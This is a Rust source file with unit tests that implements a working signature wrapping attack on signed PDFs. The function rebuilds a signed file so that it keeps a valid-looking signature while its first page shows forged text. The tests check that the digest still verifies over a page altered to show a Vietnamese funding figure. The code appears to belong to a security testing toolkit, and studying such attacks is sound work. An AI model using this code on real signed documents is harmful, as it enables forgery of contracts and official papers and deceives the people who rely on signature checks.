//! SWA, signature wrapping attack: both signed parts stay byte for byte, but the second moves back, and the gap between
//! them takes in foreign objects.

use super::incremental::replaced_page;
use super::last_signature;
use crate::Error;
use crate::pdf::Document;

/// Moves the second signed part behind a gap larger than `/Contents` and makes the first page show `text`.
///
/// The gap holds a second `/ByteRange` in the same dictionary, which fits the moved part, then the foreign objects, then
/// a table exactly where the signed `startxref` points. A reader that takes the last entry of a key and does not compare
/// the gap with `/Contents` finds the signature intact. The room comes from the zeros that fill `/Contents` up.
///
/// # Errors
/// Fails if the document carries no signature, or `text` is longer than the room that those zeros leave.
pub fn widen_byte_range(pdf: &[u8], text: &str) -> Result<Vec<u8>, Error> {
    let extent = last_signature(pdf)?;
    let cms = extent.cms(pdf).ok_or(Error::UnsupportedDocument("signature"))?;
    let document = Document::parse(pdf)?;
    let second_part = &pdf[extent.contents.end..];

    let mut forged = pdf[..extent.contents.start + 1 + 2 * cms.len()].to_vec();
    forged.extend_from_slice(b"> ");
    let entry_start = forged.len();
    let entry = |second: usize| format!("/ByteRange [0 {} {second:010} {}]", extent.byte_range[1], second_part.len());
    forged.extend_from_slice(format!("{} >>\nendobj\n", entry(0)).as_bytes());
    let mut offsets = document.offsets().clone();
    for (number, object) in replaced_page(&document, text)? {
        offsets.insert(number, forged.len());
        forged.extend_from_slice(&[format!("{number} 0 obj\n").as_bytes(), &object, b"\nendobj\n"].concat());
    }
    if forged.len() > document.start {
        return Err(Error::UnsupportedDocument("room between signature and table"));
    }
    forged.resize(document.start, b' ');
    let table = document.section(&offsets, document.start, None);
    forged.extend_from_slice(table.as_bytes());

    let second = forged.len();
    forged.splice(entry_start..entry_start + entry(0).len(), entry(second).into_bytes());
    forged.extend_from_slice(second_part);
    Ok(forged)
}

#[cfg(test)]
mod tests {
    use super::super::fixture::Case;
    use super::*;
    use crate::pdf::{SignatureExtent, find, number_after, signatures};

    #[test]
    fn the_wrapped_digest_verifies_while_the_page_shows_the_forged_text() {
        let case = Case::new();
        let forged = widen_byte_range(&case.pdf, "Cap kinh phi 999 dong.").unwrap();

        let honest = signatures(&forged).remove(0);
        let second = find(&forged, b"/ByteRange", honest.contents.end).unwrap();
        let close = find(&forged, b"]", second).unwrap();
        let numbers = std::str::from_utf8(&forged[second + b"/ByteRange [".len()..close]).unwrap();
        let numbers: Vec<usize> = numbers.split(' ').map(|number| number.parse().unwrap()).collect();
        let wrapped = SignatureExtent { byte_range: numbers.try_into().unwrap(), ..honest.clone() };
        assert_ne!(case.openssl_accepts(&forged, &wrapped), Some(false));
        assert_ne!(case.openssl_accepts(&forged, &honest), Some(true));

        let gap = wrapped.byte_range[2] - wrapped.byte_range[1];
        assert!(gap > wrapped.contents.len());
        assert_eq!(wrapped.byte_range[2] + wrapped.byte_range[3], forged.len());
        let document = Document::parse(&forged).unwrap();
        let page = document.dictionary(document.first_page().unwrap()).unwrap();
        let contents = number_after(&page, "/Contents").unwrap();
        assert!(find(document.object(contents).unwrap(), b"999 dong", 0).is_some());
    }

    #[test]
    fn a_text_without_room_is_an_error() {
        let case = Case::new();
        assert!(widen_byte_range(&case.pdf, &"x".repeat(100_000)).is_err());
    }
}
